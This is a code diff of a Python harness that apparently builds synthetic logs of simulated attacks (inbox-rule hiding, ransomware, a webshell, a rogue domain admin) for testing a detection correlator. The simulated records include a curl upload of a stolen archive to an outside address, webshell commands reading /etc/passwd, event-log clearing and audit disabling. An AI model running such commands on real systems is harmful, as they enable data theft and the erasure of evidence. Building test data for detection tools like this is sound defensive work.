@@ -25,7 +25,7 @@ from typing import Final
 from correlator.harness.demo.cast import TOWNS, Agent, Town, computer
 from correlator.harness.demo.cloud import Cloud
 from correlator.harness.demo.network import Flow, Network
-from correlator.harness.demo.stage import Record, Stage, at
+from correlator.harness.demo.stage import Record, Stage
 from correlator.harness.demo.unix import WWW_DATA, Unix
 from correlator.harness.demo.windows import DEFENDER, Windows
 
@@ -66,7 +66,7 @@ def _sprayed(cloud: Cloud, when: datetime, upn: str, address: str) -> Record:
 
 def _mailbox_taken(stage: Stage, cloud: Cloud) -> Iterator[Record]:
     address, single = _SPRAYERS[1], "singleFactorAuthentication"
-    yield _sprayed_success(cloud, at("10:54"), address, single)
+    yield _sprayed_success(cloud, stage.at("10:54"), address, single)
     for when in stage.burst("11:01", 32, 420):
         yield cloud.audit(when, _KIOSK, address, "MailItemsAccessed", "Exchange", ObjectId="")
     hiding = [
@@ -75,7 +75,9 @@ def _mailbox_taken(stage: Stage, cloud: Cloud) -> Iterator[Record]:
         {"Name": "MoveToFolder", "Value": "Flux RSS"},
         {"Name": "MarkAsRead", "Value": "True"},
     ]
-    yield cloud.audit(at("11:14"), _KIOSK, f"{address}:51234", "New-InboxRule", "Exchange", Parameters=hiding, RecordType=1)
+    yield cloud.audit(
+        stage.at("11:14"), _KIOSK, f"{address}:51234", "New-InboxRule", "Exchange", Parameters=hiding, RecordType=1
+    )
 
 
 def _sprayed_success(cloud: Cloud, when: datetime, address: str, factors: str) -> Record:
@@ -115,14 +117,14 @@ def play_ransomware(stage: Stage) -> Iterator[Record]:
     """Yield A2: recovery destroyed, protection stopped, then the files of one commune's server."""
     windows, server = Windows(stage), _town("SAU").file_server
     user = f"SIM9\\{_STOLEN[0]}"
-    yield windows.logon(at("02:02:11"), server, _STOLEN[0], _FOOTHOLD, 10, _STOLEN[1])
+    yield windows.logon(stage.at("02:02:11"), server, _STOLEN[0], _FOOTHOLD, 10, _STOLEN[1])
     for number, command in enumerate(_DESTRUCTION):
-        yield windows.process(at("02:06") + timedelta(seconds=7 * number), server, user, _CMD, command)
+        yield windows.process(stage.at("02:06") + timedelta(seconds=7 * number), server, user, _CMD, command)
     for number, (shown, name) in enumerate(_STOPPED):
-        yield windows.service(at("02:07:20") + timedelta(seconds=9 * number), server, shown, name, running=False)
+        yield windows.service(stage.at("02:07:20") + timedelta(seconds=9 * number), server, shown, name, running=False)
     product = {"Product Name": "Antivirus Microsoft Defender", "Product Version": "4.18.25090.3009"}
-    yield windows.event(at("02:07:58"), server, DEFENDER, 5001, product)
-    yield windows.process(at("02:08:30"), server, user, _CMD, f"{_LOCKER} -p D:\\Partages -t 8")
+    yield windows.event(stage.at("02:07:58"), server, DEFENDER, 5001, product)
+    yield windows.process(stage.at("02:08:30"), server, user, _CMD, f"{_LOCKER} -p D:\\Partages -t 8")
     yield from _encrypted(stage, windows, server, user)
     yield from _traces_removed(windows, server, user)
 
@@ -144,7 +146,7 @@ def _encrypted(stage: Stage, windows: Windows, server: str, user: str) -> Iterat
 
 def _traces_removed(windows: Windows, server: str, user: str) -> Iterator[Record]:
     for number, log in enumerate(("Security", "System")):
-        when = at("02:15") + timedelta(seconds=12 * number)
+        when = windows.stage.at("02:15") + timedelta(seconds=12 * number)
         yield windows.process(when, server, user, _CMD, f"C:\\Windows\\System32\\wevtutil.exe cl {log}")
         yield windows.cleared(when + timedelta(seconds=1), server, *_STOLEN, log)
 
@@ -165,14 +167,14 @@ def play_webshell(stage: Stage) -> Iterator[Record]:
     for when in stage.burst("22:05", 90, 1500):
         probe = f"GET /wp-content/plugins/{stage.rng.choice(_PLUGINS)}-{stage.rng.randrange(90)}/readme.txt"
         yield network.web(when, town, _INTRUDER, probe, 404, 162, _SCANNER_AGENT)
-    yield network.web(at("22:34:02"), town, _INTRUDER, "POST /wp-admin/admin-ajax.php?action=upload", 200, 61, _BROWSER)
-    yield from unix.created(at("22:34:02"), "que-web01", f"/var/www/html{_SHELL}", exe="/usr/sbin/apache2", euid=WWW_DATA)
-    yield network.web(at("22:36:10"), town, _INTRUDER, f"GET {_SHELL}?c=whoami", 200, 17, _BROWSER)
-    yield network.web(at("22:36:41"), town, _INTRUDER, f"GET {_SHELL}?cmd=cat%20/etc/passwd", 200, 1841, _BROWSER)
+    yield network.web(stage.at("22:34:02"), town, _INTRUDER, "POST /wp-admin/admin-ajax.php?action=upload", 200, 61, _BROWSER)
+    yield from unix.created(stage.at("22:34:02"), "que-web01", f"/var/www/html{_SHELL}", exe="/usr/sbin/apache2", euid=WWW_DATA)
+    yield network.web(stage.at("22:36:10"), town, _INTRUDER, f"GET {_SHELL}?c=whoami", 200, 17, _BROWSER)
+    yield network.web(stage.at("22:36:41"), town, _INTRUDER, f"GET {_SHELL}?cmd=cat%20/etc/passwd", 200, 1841, _BROWSER)
     for when in stage.burst("22:37", 38, 1500):
         yield network.web(when, town, _INTRUDER, f"POST {_SHELL}", 200, stage.rng.randrange(200, 900), _BROWSER)
     yield from chain.from_iterable(_commands(stage, unix))
-    yield network.passed(at("23:04:30"), town, Flow("10.16.20.11", "198.51.100.90", 443, 48_211_004, 9_120), "serveurs")
+    yield network.passed(stage.at("23:04:30"), town, Flow("10.16.20.11", "198.51.100.90", 443, 48_211_004, 9_120), "serveurs")
 
 
 def _commands(stage: Stage, unix: Unix) -> Iterator[Iterator[Record]]:
@@ -182,7 +184,7 @@ def _commands(stage: Stage, unix: Unix) -> Iterator[Iterator[Record]]:
         exe = f"/usr/bin/{program[0]}"
         yield unix.executed(when + timedelta(milliseconds=3), "que-web01", program, exe=exe, euid=WWW_DATA, parent=812)
     theft = ["curl", "-s", "-F", "file=@/tmp/d.gz", "http://198.51.100.90/depot"]
-    yield unix.executed(at("23:04:28"), "que-web01", theft, exe="/usr/bin/curl", euid=WWW_DATA, parent=812)
+    yield unix.executed(stage.at("23:04:28"), "que-web01", theft, exe="/usr/bin/curl", euid=WWW_DATA, parent=812)
 
 
 # --- A4 -------------------------------------------------------------------------------------------------------------
@@ -202,7 +204,7 @@ _UNAUDITED: Final = ("{0CCE922B-69AE-11D9-BED3-505054503030}", "{0CCE9215-69AE-1
 def play_rogue(stage: Stage) -> Iterator[Record]:
     """Yield A4: an administrator who gives himself a second life at night."""
     windows, controller = Windows(stage), computer("SIM-DC02")
-    yield windows.logon(at("03:18:40"), controller, _ROGUE[0], _HIS_PC, 10, _ROGUE[1])
+    yield windows.logon(stage.at("03:18:40"), controller, _ROGUE[0], _HIS_PC, 10, _ROGUE[1])
     yield from _second_account(windows, controller)
     for number, guid in enumerate(_UNAUDITED):
         changed = {
@@ -211,40 +213,44 @@ def play_rogue(stage: Stage) -> Iterator[Record]:
             "SubcategoryGuid": guid,
             "AuditPolicyChanges": "%%8448, %%8450",
         }
-        yield windows.account(at("03:24") + timedelta(seconds=4 * number), controller, 4719, _ROGUE, **changed)
+        yield windows.account(stage.at("03:24") + timedelta(seconds=4 * number), controller, 4719, _ROGUE, **changed)
     for number, command in enumerate(_SAVED):
-        yield windows.process(at("03:26") + timedelta(seconds=15 * number), controller, f"SIM9\\{_ROGUE[0]}", _CMD, command)
+        yield windows.process(
+            stage.at("03:26") + timedelta(seconds=15 * number), controller, f"SIM9\\{_ROGUE[0]}", _CMD, command
+        )
     yield from _firewalls_opened(Network(stage))
     yield from _registers_taken(Cloud(stage))
     clearing = "C:\\Windows\\System32\\wevtutil.exe cl Security"
-    yield windows.process(at("03:54:50"), controller, f"SIM9\\{_ROGUE[0]}", _CMD, clearing)
-    yield windows.cleared(at("03:54:51"), controller, *_ROGUE)
+    yield windows.process(stage.at("03:54:50"), controller, f"SIM9\\{_ROGUE[0]}", _CMD, clearing)
+    yield windows.cleared(stage.at("03:54:51"), controller, *_ROGUE)
 
 
 def _second_account(windows: Windows, controller: str) -> Iterator[Record]:
     new_sid = f"{_FOREST_SID}-9802"
     created = {"TargetUserName": _NEW_ACCOUNT, "TargetDomainName": "SIM9", "TargetSid": new_sid, "SamAccountName": _NEW_ACCOUNT}
-    yield windows.account(at("03:21:03"), controller, 4720, _ROGUE, **created)
-    yield windows.account(at("03:21:04"), controller, 4722, _ROGUE, **created)
+    yield windows.account(windows.stage.at("03:21:03"), controller, 4720, _ROGUE, **created)
+    yield windows.account(windows.stage.at("03:21:04"), controller, 4722, _ROGUE, **created)
     member = {"MemberName": f"CN={_NEW_ACCOUNT},CN=Users,DC=ad,DC=sim9,DC=example", "MemberSid": new_sid}
     admins = {"TargetUserName": "Admins du domaine", "TargetDomainName": "SIM9", "TargetSid": f"{_FOREST_SID}-512"}
-    yield windows.account(at("03:21:30"), controller, 4728, _ROGUE, **member, **admins)
+    yield windows.account(windows.stage.at("03:21:30"), controller, 4728, _ROGUE, **member, **admins)
     local = {"TargetUserName": "Administrateurs", "TargetDomainName": "Builtin", "TargetSid": "S-1-5-32-544"}
-    yield windows.account(at("03:22:02"), controller, 4732, _ROGUE, **member, **local)
+    yield windows.account(windows.stage.at("03:22:02"), controller, 4732, _ROGUE, **member, **local)
 
 
 def _firewalls_opened(network: Network) -> Iterator[Record]:
     ui = f"https({_HIS_PC})"
     login = {"srcip": _HIS_PC, "dstip": "10.10.99.1", "action": "login", "status": "success", "method": "https"}
-    yield network.administration(at("03:31:10"), "0100032001", "Admin login successful", _ROGUE[0], ui, **login)
+    yield network.administration(network.stage.at("03:31:10"), "0100032001", "Admin login successful", _ROGUE[0], ui, **login)
     added = {"action": "Add", "cfgpath": "system.admin", "cfgobj": "maintenance2", "cfgattr": "accprofile[super_admin]"}
-    yield network.administration(at("03:32:05"), "0100044547", "Object attribute configured", _ROGUE[0], ui, **added)
+    yield network.administration(
+        network.stage.at("03:32:05"), "0100044547", "Object attribute configured", _ROGUE[0], ui, **added
+    )
     for clock, command in (
         ("03:34:20", "CONFIG COMMUNICATION SYSLOG PROFILE UPDATE index=1 state=0"),
         ("03:34:31", "CONFIG ACTIVATE"),
     ):
         fields: dict[str, str | int] = {"error": 0, "user": "admin", "address": _HIS_PC, "sessionid": 18, "msg": command}
-        yield network.stormshield(at(clock), _town("RON"), "server", fields)
+        yield network.stormshield(network.stage.at(clock), _town("RON"), "server", fields)
 
 
 def _registers_taken(cloud: Cloud) -> Iterator[Record]:
@@ -255,4 +261,4 @@ def _registers_taken(cloud: Cloud) -> Iterator[Record]:
         ("03:46:02", "etat-civil", "acte_deces", 9_310),
     ):
         many = {"object_id": None, "object_count": count, "reason": None, "user_role": "admin"}
-        yield cloud.consulted(at(clock), agent, app, "export", object_type, **many)
+        yield cloud.consulted(cloud.stage.at(clock), agent, app, "export", object_type, **many)
